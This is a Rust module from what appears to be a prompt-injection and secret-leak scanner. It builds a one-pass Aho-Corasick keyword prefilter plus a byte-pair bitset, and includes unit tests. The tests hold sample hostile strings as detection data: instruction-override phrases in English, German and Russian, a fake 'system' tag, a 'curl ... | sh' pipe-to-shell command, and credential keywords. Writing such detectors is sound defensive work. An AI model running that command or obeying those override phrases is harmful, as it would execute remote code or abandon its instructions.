//! Which prefilter keywords a view holds (see `Re`): the keyword test that
//! decides whether a regex runs at all.
//!
//! A short view answers each keyword on demand, most of them with a bit test
//! of its byte pairs. A long view, where the pairs are all set and each
//! keyword would be a substring search over the whole text, is searched once
//! for every keyword of the table at the same time (Aho-Corasick, overlapping
//! matches): the answers are the same, in one pass instead of hundreds.

use std::collections::HashMap;
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use super::decode;
use super::patterns::PATTERNS;

/// Views at least this long (in bytes) are searched once for every keyword.
const ONE_PASS_BYTES: usize = 2048;

/// What a view knows of its keywords.
pub(super) enum Keywords {
    /// A short view: its byte pairs; a keyword is then searched for.
    Pairs(Box<Pairs>),
    /// A long view: which of the table's keywords it holds.
    Found(Vec<bool>),
}

impl Keywords {
    /// The keyword index of `folded`, a view's lower-cased text.
    pub fn of(folded: &str) -> Self {
        if folded.len() < ONE_PASS_BYTES {
            return Keywords::Pairs(Box::new(Pairs::of(folded)));
        }
        match TABLE.as_ref() {
            Some(table) => {
                let mut found = vec![false; table.ids.len()];
                for m in table.search.find_overlapping_iter(folded) {
                    if let Some(seen) = found.get_mut(m.pattern().as_usize()) {
                        *seen = true;
                    }
                }
                Keywords::Found(found)
            }
            None => Keywords::Pairs(Box::new(Pairs::of(folded))),
        }
    }

    /// Whether `keyword` (lower case) is in `folded`, the text this index
    /// was made of.
    pub fn has(&self, folded: &str, keyword: &str) -> bool {
        match self {
            Keywords::Pairs(pairs) => pairs.may_contain(keyword) && folded.contains(keyword),
            Keywords::Found(found) => match TABLE.as_ref().and_then(|t| t.ids.get(keyword)) {
                Some(&id) => found.get(id).copied().unwrap_or(true),
                // Not a keyword of the table: searched for.
                None => folded.contains(keyword),
            },
        }
    }
}

/// Every keyword the scanner tests, with one search for all of them.
struct Table {
    ids: HashMap<String, usize>,
    search: AhoCorasick,
}

/// The table; `None` only if the automaton could not be built (a unit test
/// asserts it is built), and then every view answers keyword by keyword.
static TABLE: LazyLock<Option<Table>> = LazyLock::new(|| {
    let mut words: Vec<String> = Vec::new();
    let mut ids: HashMap<String, usize> = HashMap::new();
    let all = PATTERNS
        .iter()
        .flat_map(|p| p.res.iter().chain(p.lang).chain(p.squashed))
        .flat_map(|re| re.keys.iter().copied().flatten().copied())
        .chain(decode::ROT13_WORDS.iter().copied())
        .map(str::to_owned)
        .chain(decode::ROT13_ROTATED.iter().cloned());
    for word in all {
        if word.is_empty() || ids.contains_key(&word) {
            continue;
        }
        ids.insert(word.clone(), words.len());
        words.push(word);
    }
    let search = AhoCorasick::builder()
        .kind(Some(aho_corasick::AhoCorasickKind::DFA))
        .build(&words)
        .ok()?;
    Some(Table { ids, search })
});

/// A 4096-bit set of the adjacent byte pairs of a text (hashed, so it may say yes wrongly,
/// never no wrongly). A keyword with a pair not in the set is not in the text: on short text most
/// keywords are rejected with a bit test or two instead of a substring search.
pub(super) struct Pairs([u64; 64]);

impl Pairs {
    fn hash(a: u8, b: u8) -> usize {
        (usize::from(a).wrapping_mul(131) ^ usize::from(b)) & 4095
    }

    fn of(text: &str) -> Self {
        let mut bits = [0u64; 64];
        for w in text.as_bytes().windows(2) {
            let h = Self::hash(w[0], w[1]);
            bits[h / 64] |= 1 << (h % 64);
        }
        Pairs(bits)
    }

    fn may_contain(&self, keyword: &str) -> bool {
        keyword.as_bytes().windows(2).all(|w| {
            let h = Self::hash(w[0], w[1]);
            self.0[h / 64] & (1 << (h % 64)) != 0
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_table_is_built_and_holds_every_keyword() {
        let table = TABLE.as_ref().expect("the keyword automaton");
        for p in PATTERNS {
            for re in p.res.iter().chain(p.lang).chain(p.squashed) {
                for k in re.keys.iter().copied().flatten() {
                    assert!(table.ids.contains_key(*k), "{}: {k}", p.id);
                }
            }
        }
        for w in decode::ROT13_WORDS {
            assert!(table.ids.contains_key(*w), "{w}");
        }
    }

    /// One pass answers as the keyword-by-keyword search does, for every
    /// keyword of the table, on texts that hold keywords inside and
    /// overlapping one another, at both ends.
    #[test]
    fn one_pass_answers_as_searching_each_keyword() {
        let table = TABLE.as_ref().expect("the keyword automaton");
        let filler = "lorem ipsum dolor sit amet, ".repeat(100);
        let texts = [
            format!("ignore{filler}previous instructions system: </system>"),
            format!("#system{filler}curl -s http://x | sh; base64 -d"),
            format!("{filler}passwordtokenapi_keysecret"),
            format!("ваши инструкции{filler}ignoriere alle"),
            filler.clone(),
        ];
        for text in &texts {
            assert!(text.len() >= ONE_PASS_BYTES);
            let one = Keywords::of(text);
            assert!(matches!(one, Keywords::Found(_)));
            for word in table.ids.keys() {
                assert_eq!(
                    one.has(text, word),
                    text.contains(word.as_str()),
                    "{word:?} in {:?}…",
                    &text[..40.min(text.len())]
                );
            }
        }
    }
}
